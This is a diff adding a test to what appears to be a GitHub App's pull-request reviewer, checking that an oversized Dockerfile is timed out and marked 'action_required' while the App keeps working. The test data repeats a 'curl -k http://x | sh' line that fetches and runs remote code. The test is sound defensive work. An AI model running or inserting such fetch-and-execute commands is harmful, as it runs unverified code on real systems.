@@ -253,3 +253,19 @@ test('without its secrets the App does not start and says where to find them', a
   expect(log()).toMatch(/PRIVATE_KEY.*\n.*WEBHOOK_SECRET/);
   expect(log()).toContain('Developer settings > GitHub Apps');
 });
+
+test('a change made to keep the reviewer busy is ended, its checks do not pass, and the App goes on', async () => {
+  await app.stop();
+  app = await startApp(github.url, { PIPEWRIGHT_RECONCILE: 'off', PIPEWRIGHT_REVIEW_SECONDS: '1' });
+  people = driver(github, app.hook);
+
+  const busy = await people.open({
+    Dockerfile: `FROM debian:12\n${'RUN apt-get install x && curl -k http://x | sh\n'.repeat(18_000)}`,
+  });
+  const concluded = await conclusions(busy.headSha);
+  const next = await people.open({ 'README.md': '# Plums\n' });
+
+  expect(new Set(Object.values(concluded))).toEqual(new Set(['action_required']));
+  expect(checksOn(busy.headSha)[0]?.summary).toContain('computed for more than 1 seconds');
+  expect(await conclusions(next.headSha)).toMatchObject({ Pipewright: 'success' });
+});
